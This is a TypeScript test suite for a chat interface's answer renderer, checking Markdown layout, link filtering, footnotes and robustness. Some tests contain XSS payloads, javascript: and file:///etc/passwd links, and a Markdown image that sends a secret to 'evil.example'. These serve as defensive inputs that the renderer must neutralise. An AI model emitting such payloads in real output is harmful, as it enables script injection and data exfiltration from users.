import type { ChatPage, PageFixture } from '../support/page-fixture.js';
import { chatAnswer } from '../support/scripted-server.mjs';

/** Milliseconds within which the worst answer must be shown, on a machine that does much else. */
const CHOKE_PATIENCE_MS = 30_000;

export function answersSuite(fixture: PageFixture): void {
  const openWith = async (response: string): Promise<ChatPage> => {
    const chat = await fixture.open();
    fixture.server.answer(chatAnswer({ response }));
    await chat.ask('Go on');
    return chat;
  };

  it('lays out Markdown with tables and task lists', async () => {
    const { lastAnswer } = await openWith('**bold** and `code`\n\n- one\n- [x] done\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```js\nlet x;\n```');
    expect(await lastAnswer.locator('strong').innerText()).toBe('bold');
    expect(await lastAnswer.locator('li').count()).toBe(2);
    expect(await lastAnswer.locator('li input:checked').count()).toBe(1);
    expect(await lastAnswer.locator('td').allInnerTexts()).toEqual(['1', '2']);
    expect(await lastAnswer.locator('pre code').innerText()).toBe('let x;\n');
  });

  it('shows raw HTML as the text that it is and runs none of it', async () => {
    const chat = await openWith('<img src=x onerror="document.title=1">\n\n<script>document.title=2</script> <style>*{color:red}</style> <iframe src="/"></iframe> <b onclick="x">bold</b>');
    const { lastAnswer, page } = chat;
    expect(await page.title()).toBe('Jarvis');
    expect(await lastAnswer.locator('img, script, style, iframe, b').count()).toBe(0);
    expect(await lastAnswer.innerText()).toContain('<script>document.title=2</script>');
  });

  it('loads no image: its text stands there as a link that names the host', async () => {
    const { lastAnswer } = await openWith('![a chart](https://evil.example/steal?secret=42 "x") ![](data:image/png;base64,AAAA) ![pixel](/favicon.svg) ![r][1]\n\n[1]: http://evil.example/p.png');
    expect(await lastAnswer.locator('img').count()).toBe(0);
    expect(await lastAnswer.innerText()).toBe('[Image: a chart, evil.example] [Image: image] [Image: pixel] [Image: r, evil.example]');
    expect(await lastAnswer.locator('a').first().getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('links only to whole http, https and mailto addresses, in a new tab that learns nothing', async () => {
    const { lastAnswer } = await openWith(
      '[web](https://example.org/a) [mail](mailto:a@example.org) [script](javascript:alert(1)) [case](JaVaScRiPt:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) [own](/api/sessions) [same](//example.org/x) [blank](vbscript:x) https://example.net',
    );
    const links = lastAnswer.locator('a');
    const addresses = await Promise.all((await links.all()).map((link) => link.getAttribute('href')));
    expect(addresses).toEqual(['https://example.org/a', 'mailto:a@example.org', 'https://example.net']);
    for (const link of await links.all()) {
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
      expect(await link.getAttribute('target')).toBe('_blank');
    }
    expect(await lastAnswer.innerText()).toContain('script case data file own same blank');
  });

  it('keeps footnotes within their own answer', async () => {
    const chat = await openWith('A[^1].\n\n[^1]: Note one.');
    fixture.server.answer(chatAnswer({ response: 'B[^1].\n\n[^1]: Note two.' }));
    await chat.ask('More');
    const target = await chat.lastAnswer.locator('sup a').getAttribute('href');
    expect(await chat.page.locator(`[id="${target?.slice(1)}"]`).innerText()).toContain('Note two.');
  });

  it('keeps one h1 on the page, whatever an answer says', async () => {
    const { page } = await openWith('# Title\n\n## Part\n\n###### Deep');
    expect(await page.getByRole('heading', { level: 1 }).allInnerTexts()).toEqual(['Jarvis']);
    expect(await page.getByRole('heading', { level: 2, name: 'Title' }).count()).toBe(1);
    expect(await page.getByRole('heading', { level: 3, name: 'Part' }).count()).toBe(1);
  });

  it('takes the direction of each block from its text, and code always from the left', async () => {
    const { lastAnswer, page } = await openWith('שלום עולם\n\nHello world\n\n```\nשלום\n```\n\n1. אחת');
    const paragraphs = await lastAnswer.locator('p').all();
    expect(await Promise.all(paragraphs.map((paragraph) => paragraph.evaluate(readDirection)))).toEqual(['rtl', 'ltr']);
    expect(await lastAnswer.locator('pre').evaluate(readDirection)).toBe('ltr');
    expect(await lastAnswer.locator('ol').evaluate(readDirection)).toBe('rtl');
    expect(await page.locator('article p').first().getAttribute('dir')).toBe('auto');
  });

  it('stays usable with answers that would choke it: endless, deeply nested, broken', async () => {
    const chat = await openWith('word '.repeat(100_000));
    for (const response of ['>'.repeat(5_000) + ' deep', '['.repeat(30_000), '*'.repeat(30_000), '| a '.repeat(2_000), '\ud800 lone \u0000 nul', '']) {
      fixture.server.answer(chatAnswer({ response }));
      await chat.send('Go on');
      await chat.settled(CHOKE_PATIENCE_MS);
    }
    fixture.server.answer(chatAnswer({ response: 'Still alive.' }));
    await chat.ask('Go on');
    expect(await chat.lastAnswer.innerText()).toBe('Still alive.');
  });
}

declare function getComputedStyle(element: unknown): { direction: string };

/** Runs in the page. */
function readDirection(element: unknown): string {
  return getComputedStyle(element).direction;
}
